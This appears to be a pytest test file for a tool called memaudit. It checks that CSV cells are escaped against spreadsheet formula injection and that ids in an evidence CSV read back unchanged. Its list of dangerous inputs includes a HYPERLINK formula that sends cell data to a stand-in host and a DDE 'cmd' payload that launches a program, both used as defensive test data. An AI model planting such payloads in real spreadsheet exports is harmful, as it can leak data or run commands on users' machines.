"""No cell of a CSV file is a formula to a spreadsheet, numbers stay numbers, and ids are read back as they are."""

import csv
import io
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from memaudit.auditing.folder import read_evidence
from memaudit.cells import neutral, restored
from memaudit.recipe.members import write_members

DANGEROUS = (
    '=HYPERLINK("http://example.invalid/"&A0,"x")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "-",
)
HARMLESS = ("a=1", "3-4", "-5", "+5", "-1.5e-07", "0.25", "", "Müller", "x@y.example")


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"
    assert restored(neutral(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_plain_words_stay(text: str) -> None:
    assert neutral(text) == restored(text) == text


@given(st.text(alphabet="'=+-@\t\r\n 1a.;,\"", max_size=6))
def test_every_text_is_given_back(text: str) -> None:
    assert restored(neutral(text)) == text
    assert not neutral(text).startswith(("=", "@", "\t", "\r", "\n"))


def cells(content: bytes) -> list[str]:
    """Returns the cells as a spreadsheet parts them, also one that parts them by ; outside quotation marks."""
    text = content.decode()
    return [cell for d in (",", ";") for row in csv.reader(io.StringIO(text, newline=""), delimiter=d) for cell in row]


def test_evidence_opens_in_a_spreadsheet_and_is_read_back(
    project: Path, command: Callable[..., CompletedProcess[str]], edit: Callable[[Path, str, str], None]
) -> None:
    ids = [*DANGEROUS, "x;=1+1", *map(str, range(len(DANGEROUS) + 1, 200))]
    edit(project / "recipe.py", "rng.integers(0, 10, 200))", f"rng.integers(0, 10, 200), ids={ids!r})")
    rows = np.random.default_rng(5).permutation(200)[:100]  # the members of the project's model
    write_members(project / "model.safetensors", np.isin(np.arange(200), rows))
    arguments = ("audit", "model.safetensors", "--bank", "bank2", "--shadows", 6, "--evidence", "ids", "-q")
    done = command(*arguments)
    assert done.returncode == 0, done.stderr
    place = project / "audit" / "evidence.csv"
    for cell in cells(place.read_bytes()):
        assert not cell.startswith(("=", "@", "\t", "\r", "\n", "＝"))
        if cell.startswith(("+", "-")):
            float(cell)  # a number stays one
    assert [row["id"] for row in read_evidence(place)] == ids
    assert command("verify", "audit").returncode == 0
    assert command("diff", "audit", "audit").returncode in (0, 3)
